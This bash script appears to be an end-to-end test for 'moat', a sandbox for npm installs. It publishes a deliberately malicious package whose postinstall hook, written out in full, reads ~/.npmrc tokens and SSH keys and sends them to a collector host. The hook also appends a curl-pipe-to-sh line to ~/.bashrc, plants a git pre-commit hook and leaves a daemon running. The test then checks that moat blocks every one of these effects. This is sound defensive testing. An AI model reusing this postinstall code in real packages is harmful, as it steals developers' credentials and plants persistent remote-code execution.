#!/usr/bin/env bash
# e2e: the real npm installs a small dependency tree from a local registry on a test host
# (10.77.22.2, named registry.test through --add-host, configured by the project's .npmrc). One
# package is malicious: its postinstall reads ~/.npmrc and ~/.ssh, sends them to a collector on
# another test host (10.77.22.3), appends to ~/.bashrc, drops .git/hooks/pre-commit and leaves a
# daemon. Under `moat run -p npm` and under the two-phase `moat install`, as root and as the
# user moat-test: the honest packages install and work, every malicious effect is absent
# (checked from outside), and the summary names the package. Usage: npm_malicious_registry.sh MOAT
set -euo pipefail
moat=$(realpath "$1")
. "$(dirname "$(realpath "$0")")/npm_registry_lib.sh"
command -v npm >/dev/null || skip "npm is not installed"
[ "$(id -u)" -eq 0 ] || skip "needs root (network namespaces for the test hosts, user switch)"
id moat-test >/dev/null 2>&1 || useradd -m -s /bin/sh -U moat-test 2>/dev/null || true
id moat-test >/dev/null 2>&1 || skip "no user moat-test"

work=$(mktemp -d /tmp/moat-e2e-npmreg-XXXXXX)
chmod 755 "$work"
daemon_mark="moat-npm-daemon-$$-$RANDOM"
cleanup() {
  testhosts_cleanup
  pkill -9 -f "$daemon_mark" 2>/dev/null || true
  [ -n "${MOAT_E2E_KEEP:-}" ] && echo "kept $work" || rm -rf "$work"
}
trap cleanup EXIT
registry_ip=10.77.22.2 collector_ip=10.77.22.3 port=4873
testhost_up reg 2 1 || skip "cannot create the registry test host"
testhost_up col 3 4 || skip "cannot create the collector test host"
url="http://registry.test:$port/"
reglog="$work/registry.log" collog="$work/collector.log"
: > "$reglog"; : > "$collog"
registry_serve "mnpm-reg-$$" "$work/registry" "$port" "$reglog"
collector_serve "mnpm-col-$$" 4444 "$collog"

# --- the packages -----------------------------------------------------------------------------
mkdir -p "$work/registry" "$work/src/good-b" "$work/src/good-a" "$work/src/evil-pkg"
cat > "$work/src/good-b/package.json" <<'JSON'
{"name":"good-b","version":"1.0.0","main":"index.js"}
JSON
echo "module.exports = (x) => x * 2;" > "$work/src/good-b/index.js"
cat > "$work/src/good-a/package.json" <<'JSON'
{"name":"good-a","version":"1.0.0","main":"index.js","dependencies":{"good-b":"1.0.0"},
 "scripts":{"postinstall":"node build.js"}}
JSON
echo "module.exports = () => require('./built.json').ok && require('good-b')(21) === 42;" \
  > "$work/src/good-a/index.js"
echo "require('fs').writeFileSync(__dirname + '/built.json', JSON.stringify({ok: true}));" \
  > "$work/src/good-a/build.js"
cat > "$work/src/evil-pkg/package.json" <<'JSON'
{"name":"evil-pkg","version":"1.0.0","scripts":{"postinstall":"node postinstall.js"}}
JSON
cat > "$work/src/evil-pkg/postinstall.js" <<JS
const fs = require('fs'), net = require('net'), os = require('os'), cp = require('child_process');
let loot = '';
for (const f of ['/.npmrc', '/.ssh/id_ed25519']) {
  try { loot += fs.readFileSync(os.homedir() + f, 'utf8'); } catch (e) { loot += 'no ' + f + ' '; }
}
try { fs.appendFileSync(os.homedir() + '/.bashrc', '\ncurl http://$collector_ip:4444/x | sh\n'); } catch (e) {}
const root = process.env.INIT_CWD || process.cwd();
try {
  fs.mkdirSync(root + '/.git/hooks', {recursive: true});
  fs.writeFileSync(root + '/.git/hooks/pre-commit', '#!/bin/sh\ncurl $collector_ip:4444\n', {mode: 0o755});
} catch (e) {}
const d = cp.spawn('sh', ['-c', 'sleep 300', '$daemon_mark'], {detached: true, stdio: 'ignore'});
d.unref();
const s = net.connect(4444, '$collector_ip', () => { s.end('STOLEN ' + loot); });
s.on('error', () => {});
require('dns').lookup('collector.test', () => {});
setTimeout(() => process.exit(0), 1500);
JS
for p in good-b good-a evil-pkg; do
  publish "$work/src/$p" "$p" 1.0.0 "$url" "$work/registry" || { echo "FAIL: publish $p"; exit 1; }
done
wait_port "$registry_ip" "$port" || skip "the registry did not start"
wait_port "$collector_ip" 4444 || skip "the collector did not start"
# Control: unconfined, the collector is reachable (so silence under moat means something).
(exec 3<>"/dev/tcp/$collector_ip/4444"; printf 'control' >&3) 2>/dev/null || skip "collector unreachable"
sleep 0.2
grep -q control "$collog" || skip "the collector records nothing"
: > "$collog"

# --- control: without moat, every malicious effect happens (so their absence means something) ---
control() {
  local dir="$work/control" home="$work/control/home"
  mkdir -p "$home/.ssh" "$dir/project"
  echo "MOAT-SSH-CANARY-$$" > "$home/.ssh/id_ed25519"
  echo "# the user's bashrc" > "$home/.bashrc"
  (cd "$dir/project" && git init -q . && echo "registry=$url" > .npmrc &&
    echo '{"name":"victim","version":"1.0.0","private":true,"dependencies":{"evil-pkg":"1.0.0"}}' > package.json)
  # Unconfined, registry.test is not a name this host knows: the address goes in the URL.
  (cd "$dir/project" && HOME="$home" npm install --no-audit --no-fund \
    --registry "http://$registry_ip:$port/" >/dev/null 2>&1) || true
  sleep 0.5
  grep -q "STOLEN.*MOAT-SSH-CANARY" "$collog" || skip "control: the collector got nothing unconfined"
  grep -q "$collector_ip" "$home/.bashrc" || skip "control: ~/.bashrc unchanged unconfined"
  [ -s "$dir/project/.git/hooks/pre-commit" ] || skip "control: no git hook unconfined"
  pgrep -f "$daemon_mark" >/dev/null || skip "control: no daemon unconfined"
  pkill -9 -f "$daemon_mark" 2>/dev/null || true
  : > "$collog"; : > "$reglog"
}
for p in good-b good-a evil-pkg; do  # the control needs tarball URLs it can reach by address
  sed -i "s#$url#http://$registry_ip:$port/#g" "$work/registry/$p.json"
done
control
for p in good-b good-a evil-pkg; do
  sed -i "s#http://$registry_ip:$port/#$url#g" "$work/registry/$p.json"
done
echo "ok: control (unconfined, every effect happens)"

# --- one install: MODE (run | install), AS (root | moat-test) ----------------------------------
passed=0
scenario() {
  local mode=$1 as=$2 dir="$work/$1-$2"
  local home="$dir/home" project="$dir/project"
  mkdir -p "$home/.ssh" "$project"
  echo "MOAT-SSH-CANARY-$$" > "$home/.ssh/id_ed25519"
  echo "//registry.test:$port/:_authToken=MOAT-NPM-TOKEN-CANARY-$$" > "$home/.npmrc"
  echo "# the user's bashrc" > "$home/.bashrc"
  (cd "$project" && git init -q . )
  echo "registry=$url" > "$project/.npmrc"
  echo '{"name":"victim","version":"1.0.0","private":true,"dependencies":{"good-a":"1.0.0","evil-pkg":"1.0.0"}}' \
    > "$project/package.json"
  local bashrc_before; bashrc_before=$(sha256sum < "$home/.bashrc")
  [ "$as" = root ] || chown -R moat-test:moat-test "$dir"
  : > "$reglog"; : > "$collog"
  local sub=run; [ "$mode" = install ] && sub=install
  local cmd=(env HOME="$home" "$moat" "$sub" -p npm
             --add-host "registry.test=$registry_ip" --audit "$dir/audit.jsonl"
             -- npm install --no-audit --no-fund --foreground-scripts)
  local rc=0
  if [ "$as" = root ]; then
    (cd "$project" && "${cmd[@]}") >"$dir/out" 2>"$dir/err" || rc=$?
  else
    (cd "$project" && setpriv --reuid=moat-test --regid=moat-test --init-groups "${cmd[@]}") \
      >"$dir/out" 2>"$dir/err" || rc=$?
  fi
  sleep 0.5
  local before=$failures
  local what="$mode as $as"
  # The honest packages are installed, built by their own script, and work.
  node -e "process.exit(require('$project/node_modules/good-a')() ? 0 : 1)" ||
    fail "$what: good-a does not work after the install (moat exit $rc)"
  # Every malicious effect, checked from outside.
  [ -s "$collog" ] && fail "$what: the collector received: $(head -c 300 "$collog")"
  [ "$(sha256sum < "$home/.bashrc")" = "$bashrc_before" ] || fail "$what: ~/.bashrc changed"
  [ -s "$project/.git/hooks/pre-commit" ] && fail "$what: .git/hooks/pre-commit was dropped"
  pgrep -f "$daemon_mark" >/dev/null && fail "$what: the daemon survived moat"
  grep -q "CANARY" "$dir/out" "$dir/err" && fail "$what: a secret leaked into the output"
  # The package is named in the summary.
  grep -q "evil-pkg" "$dir/err" || fail "$what: the summary does not name evil-pkg"
  if [ "$mode" = install ]; then
    # Phase 1 fetched with the user's token; phase 2 says evil-pkg wanted the network.
    grep -q "auth=Bearer MOAT-NPM-TOKEN-CANARY" "$reglog" ||
      fail "$what: phase 1 did not send the token from ~/.npmrc"
    grep -A5 "phase 2 runs install scripts with the network OFF" "$dir/err" | grep -q "evil-pkg" ||
      fail "$what: the summary does not say evil-pkg tried the network in phase 2"
  else
    grep -q "auth=Bearer" "$reglog" && fail "$what: npm sent a token although ~/.npmrc is masked"
  fi
  if [ "$failures" -gt "$before" ]; then
    echo "--- $what: exit $rc, stderr:"; tail -n 60 "$dir/err"
  else
    passed=$((passed + 1)); echo "ok: $what"
  fi
  pkill -9 -f "$daemon_mark" 2>/dev/null || true
}
for mode in run install; do
  for as in root moat-test; do scenario "$mode" "$as"; done
done
echo "$passed passed, $failures failed"
[ "$failures" -eq 0 ]
